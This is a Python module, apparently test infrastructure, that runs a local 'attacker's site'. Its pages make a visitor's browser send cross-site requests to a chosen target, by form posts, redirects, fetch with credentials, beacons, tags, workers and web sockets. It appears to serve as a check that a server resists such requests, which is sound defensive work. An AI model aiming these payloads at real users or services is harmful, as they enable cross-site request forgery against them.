"""The attacker's web site: pages that attack the machine of whoever opens them.

What navigates takes its page away, so it has one of its own; all else can share one.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

_PAGE = "<!doctype html><meta charset=utf-8><title>page</title><body><script>{scripts}</script>"
_SCRIPT = """
(async (TARGET, FIELDS) => {{ const BODY = JSON.stringify(FIELDS); {script} }})({target}, {fields})
  .catch(() => null);
"""

_FORM = """
const form = document.createElement("form");
form.method = "post"; form.action = TARGET; form.enctype = "{enctype}";
for (const [name, value] of Object.entries(FIELDS)) {{
  const field = document.createElement("input");
  field.type = "hidden"; field.name = name; field.value = value; form.append(field);
}}
document.body.append(form); {last}
"""
_TAG = """
const element = document.createElement("{tag}"); element.{attribute} = TARGET; {more}
await new Promise(done => {{
  element.onload = element.onerror = done; document.body.append(element);
}});
"""
_FETCH = """
const answer = await fetch(TARGET, {{method: "{method}", mode: "{mode}", {more}}});
return answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 200);
"""

NAVIGATIONS = {
    "form, as text": _FORM.format(enctype="text/plain", last="form.submit();"),
    "form, urlencoded": _FORM.format(
        enctype="application/x-www-form-urlencoded", last="form.submit();"
    ),
    "form, multipart": _FORM.format(enctype="multipart/form-data", last="form.submit();"),
    "form into a new tab": _FORM.format(
        enctype="application/x-www-form-urlencoded",
        last='form.target = "_blank"; form.submit();',
    ),
    "form into a frame": 'document.body.innerHTML = "<iframe name=inner></iframe>";'
    + _FORM.format(
        enctype="application/x-www-form-urlencoded",
        last='form.target = "inner"; form.submit();',
    ),
    "link": 'const link = document.createElement("a"); link.href = TARGET; link.click();',
    "link without a referrer": 'const link = document.createElement("a"); link.href = TARGET;'
    ' link.rel = "noreferrer noopener"; link.target = "_blank"; link.click();',
    "window.open": "window.open(TARGET);",
    "location": "location = TARGET;",
    "refresh": """
const element = document.createElement("meta"); element.httpEquiv = "refresh";
element.content = "0;url=" + TARGET; document.head.append(element);
""",
    "redirect 302": 'location = "/redirect?status=302&to=" + encodeURIComponent(TARGET);',
    "redirect 307 of a form": _FORM.format(
        enctype="application/x-www-form-urlencoded",
        last='form.action = "/redirect?status=307&to=" + encodeURIComponent(TARGET);'
        " form.submit();",
    ),
}
"""How a page sends its visitor's browser to the address TARGET, by the attack's name."""

REQUESTS = {
    "fetch": _FETCH.format(method="GET", mode="cors", more=""),
    "fetch, no-cors": _FETCH.format(method="POST", mode="no-cors", more="body: BODY"),
    "fetch, post as text": _FETCH.format(method="POST", mode="cors", more="body: BODY"),
    "fetch, post as json": _FETCH.format(
        method="POST",
        mode="cors",
        more='body: BODY, headers: {"content-type": "application/json"}',
    ),
    "fetch, put": _FETCH.format(method="PUT", mode="cors", more="body: BODY"),
    "fetch, delete": _FETCH.format(method="DELETE", mode="cors", more=""),
    "fetch by a redirect": _FETCH.format(method="POST", mode="no-cors", more="body: BODY").replace(
        "TARGET", '"/redirect?status=307&to=" + encodeURIComponent(TARGET)'
    ),
    "fetch with credentials": _FETCH.format(
        method="GET", mode="cors", more='credentials: "include"'
    ),
    "fetch from a worker": """
const source = `fetch(${JSON.stringify(TARGET)}, {method: "POST", mode: "no-cors",
  body: ${JSON.stringify(BODY)}}).then(() => postMessage(1), () => postMessage(0))`;
const worker = new Worker(URL.createObjectURL(new Blob([source])));
await new Promise(done => { worker.onmessage = done; });
""",
    "XMLHttpRequest": """
const request = new XMLHttpRequest(); request.open("POST", TARGET);
await new Promise(done => { request.onloadend = done; request.send(BODY); });
return request.responseText;
""",
    "beacon": "navigator.sendBeacon(TARGET, BODY);",
    "image": _TAG.format(tag="img", attribute="src", more=""),
    "image across origins": _TAG.format(
        tag="img", attribute="src", more='element.crossOrigin = "anonymous";'
    ),
    "script": _TAG.format(tag="script", attribute="src", more=""),
    "style sheet": _TAG.format(tag="link", attribute="href", more='element.rel = "stylesheet";'),
    "frame": _TAG.format(tag="iframe", attribute="src", more=""),
    "frame in a sandbox": _TAG.format(tag="iframe", attribute="src", more='element.sandbox = "";'),
    "form in a sandbox": """
const inner = document.createElement("iframe"); inner.sandbox = "allow-scripts allow-forms";
inner.srcdoc = `<form method=post action="${TARGET.replaceAll("&", "&amp;")}"></form>
  <script>document.forms[0].submit()</` + "script>";
await new Promise(done => { inner.onload = done; document.body.append(inner); });
""",
    "event source": """
const source = new EventSource(TARGET);
await new Promise(done => { source.onopen = source.onerror = done; }); source.close();
""",
    "web socket": """
const socket = new WebSocket(TARGET.replace("http:", "ws:"));
await new Promise(done => { socket.onopen = socket.onclose = done; });
""",
}
"""How a page makes requests to TARGET while it is being read."""


@dataclass(frozen=True)
class Aimed:
    """An attack by its name, the address that it aims at, and fields for its form or body."""

    attack: str
    target: str
    fields: dict[str, str]

    def script(self) -> str:
        """Return the attack as a page has it."""
        return _SCRIPT.format(
            script=(NAVIGATIONS | REQUESTS)[self.attack],
            target=json.dumps(self.target),
            fields=json.dumps(self.fields),
        )


def page(attacks: Iterable[Aimed]) -> str:
    """Return a page that makes these attacks."""
    return _PAGE.format(scripts="".join(each.script() for each in attacks))


@dataclass
class Site:
    """The attacker's server, and the pages that it serves, by their names."""

    port: int = 0
    pages: dict[str, str] = field(default_factory=dict)


@contextmanager
def site() -> Iterator[Site]:
    """Serve an attacker's site."""
    served = Site()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer()

        def do_POST(self) -> None:
            self._answer()

        def _answer(self) -> None:
            address = urlsplit(self.path)
            query = {name: values[0] for name, values in parse_qs(address.query).items()}
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            match address.path:
                case "/page":
                    self._reply(200, served.pages[query["name"]])
                case "/redirect":
                    self._reply(int(query["status"]), "", query["to"])
                case _:
                    self._reply(404, "")

        def _reply(self, status: int, text: str, location: str = "") -> None:
            self.send_response(status)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(text.encode())))
            if location:
                self.send_header("Location", location)
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_arguments: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    served.port = server.server_port
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    try:
        yield served
    finally:
        server.shutdown()
        server.server_close()
